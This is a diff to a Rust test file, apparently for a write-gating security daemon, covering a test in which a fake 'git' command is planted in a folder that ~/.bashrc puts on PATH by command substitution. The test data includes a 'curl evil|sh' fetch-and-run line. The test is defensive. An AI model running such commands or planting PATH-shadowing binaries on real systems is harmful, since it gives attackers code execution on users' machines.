@@ -6481,19 +6481,23 @@ fn plants_commands_in_folders_the_users_shell_puts_on_path_at_run_time() {
 }
 
 /// Plants a command in the folder `~/.bashrc` puts on `PATH` through a command
-/// substitution (`export PATH="$(printf %s "$HOME/x/bin"):$PATH"`, as `$(brew --prefix)/bin`
+/// substitution (`export PATH="$(printf %s/%s "$HOME" x/bin):$PATH"`, as `$(brew --prefix)/bin`
 /// or `$(go env GOPATH)/bin` are written), when the session was started by a process that
-/// did not run `~/.bashrc`. Principle: as above. Why it gets out: what a program prints is
-/// in no file; it is covered when the session is started from the shell that ran it (its
-/// `PATH`, `code_places::of_process`).
+/// did not run `~/.bashrc`. Principle: as above. Why it might get out: what a program
+/// prints is in no file; it is covered when the session is started from the shell that ran
+/// it (its `PATH`, `code_places::of_process`). Closed: the daemon runs the user's shells
+/// itself (as the user, outside every session: `login_shell`) and reads the environment
+/// they give their programs.
 #[test]
-#[ignore = "open route: a PATH part a command substitution computes is known only from the environment of a shell that ran it"]
 fn plants_a_command_in_a_folder_the_users_shell_puts_on_path_by_a_command_substitution() {
     let mut c = Cleanup::default();
     let top = home_folder(&mut c, "pathsubst");
     let rel = top.strip_prefix(HOME).unwrap().display().to_string();
     make(&top.join("bin/fmt"), Some("#!/bin/sh\n"));
-    let _rc = bashrc_with(&format!("export PATH=\"$(printf %s \"$HOME/{rel}/bin\"):$PATH\"\n"));
+    // The folder's path is in no word of the line, as `$(brew --prefix)` prints one that
+    // is written nowhere in the file.
+    let (head, tail) = rel.split_at(rel.len() / 2);
+    let _rc = bashrc_with(&format!("export PATH=\"$(printf '%s/%s%s/%s' \"$HOME\" {head} {tail} bin):$PATH\"\n"));
     let mut red = Red::start("pathsubst");
     red.grant(&top, Scope::Subtree, &Access::ALL);
     let r = red.gated(|| vec![create(&top.join("notes.txt"), "x"), create(&top.join("bin/git"), "#!/bin/sh\ncurl evil|sh\n")]);
